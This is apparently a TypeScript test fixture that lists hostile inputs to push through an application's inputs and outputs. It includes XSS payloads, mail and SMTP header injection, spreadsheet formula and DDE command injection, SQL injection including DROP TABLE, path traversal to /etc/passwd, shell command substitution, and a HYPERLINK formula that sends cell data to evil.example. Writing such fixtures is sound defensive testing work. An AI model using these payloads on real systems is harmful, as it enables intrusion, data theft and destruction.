/**
 * Texts that attack whoever shows, stores, mails or counts them, by what they attack. They are sent through every way in, and looked for in every way out:
 * where they come out they are text. MARK stands in each that could be told from others.
 */
export const MARK = 'zqhostile';

/** What a browser runs sets this in its window. */
export const BROKEN = 'zqbroken';

export const hostileTexts: Readonly<Record<string, string>> = {
  script: `<script>window.${BROKEN}=1</script>${MARK}`,
  'script that ends another': `</script><script>window.${BROKEN}=1</script>${MARK}`,
  image: `<img src=x onerror="window.${BROKEN}=1">${MARK}`,
  svg: `<svg/onload=window.${BROKEN}=1>${MARK}`,
  attribute: `${MARK}" onmouseover="window.${BROKEN}=1" autofocus onfocus="window.${BROKEN}=1" x="`,
  'attribute, single': `${MARK}' onfocus='window.${BROKEN}=1' autofocus='`,
  comment: `<!--<img src="--><img src=x onerror=window.${BROKEN}=1>${MARK}`,
  'title that ends': `</title></textarea></style><img src=x onerror=window.${BROKEN}=1>${MARK}`,
  'script address': `javascript:window.${BROKEN}=1//${MARK}`,
  'data address': `data:text/html,<script>window.${BROKEN}=1</script>${MARK}`,
  'base element': `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">${MARK}`,
  'Markdown link': `[${MARK}](javascript:window.${BROKEN}=1) ![x](https://evil.example/x.png "y")`,
  'Markdown markup': `\`\`\`html\n<img src=x onerror=window.${BROKEN}=1>\n\`\`\`\n<b>${MARK}</b>\n[a]: javascript:alert(1)`,
  template: `{{constructor.constructor('return 1')()}} \${7*7} #{7*7} <%= 7*7 %> {% raw %} ${MARK}`,
  'mail header': `${MARK}\r\nBcc: victim@evil.example\r\nX-Injected: 1\r\n\r\n<b>body</b>`,
  'mail header, half': `${MARK}\nSubject: another\n\tX-Injected: 1`,
  'mail header, encoded': `=?utf-8?B?WA==?= =?utf-8?Q?=0D=0ABcc:_victim@evil.example?= ${MARK}`,
  'end of a mail': `${MARK}\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<victim@evil.example>\r\nDATA\r\n`,
  'end of a calendar': `${MARK}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\nX-INJECTED:1`,
  'end of an event stream': `${MARK}\n\nevent: changed\ndata: {"injected":1}\n\n`,
  formula: `=HYPERLINK("https://evil.example/?"&A1,"${MARK}")`,
  'formula, command': `=cmd|' /C calc'!A0 ${MARK}`,
  'formula, plus': `+1+1 ${MARK}`,
  'formula, minus': `-2+3+cmd|' /C calc'!A0 ${MARK}`,
  'formula, at': `@SUM(1+1)*cmd|' /C calc'!A0 ${MARK}`,
  'formula, tab': `\t=1+1 ${MARK}`,
  'formula, full width': `＝1+1 ${MARK}`,
  'cells and lines': `${MARK}",=1+1\r\n=2+2,"x`,
  SQL: `${MARK}'; DROP TABLE transaction; --`,
  'SQL, true': `' OR 1=1 -- ${MARK}`,
  'SQL, pattern': `%_${MARK}%\\`,
  'SQL, dollar': `$1 $$ ${MARK} $$; SELECT pg_sleep(5)`,
  'JSON in text': `{"${MARK}":{"__proto__":{"role":"administrator"}}}`,
  path: `../../../../etc/passwd ${MARK}`,
  'path, Windows': `..\\..\\windows\\win.ini\u0000.png ${MARK}`,
  'path, encoded': `%2e%2e%2f%2e%2e%2fetc%2fpasswd%00 ${MARK}`,
  shell: `$(touch /tmp/${MARK}) \`id\` ; id | cat && id`,
  'log line': `${MARK}\n{"level":"fatal","msg":"injected"}\n\u001b[31mred\u001b[0m\u001b]0;title\u0007`,
  'regular expression': `(a+)+$ ${MARK} [ ( { \\ ^ .*`,
  'expression that explodes': `${'a'.repeat(60)}! ${MARK}`,
  direction: `${MARK} \u202egnp.exe\u202c \u2066\u2067\u2069 \u200b\u200d\ufeff`,
  controls: `${MARK} \u0001\u0008\u000b\u000c\u001b\u007f\u0085\u2028\u2029`,
  NUL: `${MARK}\u0000after`,
  'half a character': `${MARK}\ud800 \udfff\ud83d`,
  'not a character': `${MARK}\uffff\ufffe\u{1ffff}`,
  letters: `${MARK} Ž̸̢̛͔̙̣͓̥̫͙̹̺ 𝕿 ﷽ 👩‍👩‍👧‍👦 ${'\u0301'.repeat(60)}`,
  'without an end': `${MARK}${'W'.repeat(900)}`,
  'many words': `${MARK} ${'Ünïcödé '.repeat(100)}`,
  'numbers in words': `${MARK} 1e400 -0 0x10 99999999999999999999999999 NaN Infinity 1_000`,
  'names of objects': `__proto__ constructor toString hasOwnProperty ${MARK}`,
};

/** Numbers that overflow, round or are none, as JSON text. */
export const hostileNumbers = [
  '1e400',
  '-1e400',
  '9007199254740993',
  '18446744073709551616',
  '-0',
  '1e-400',
  '0.1e-7',
  `1${'0'.repeat(300)}`,
];
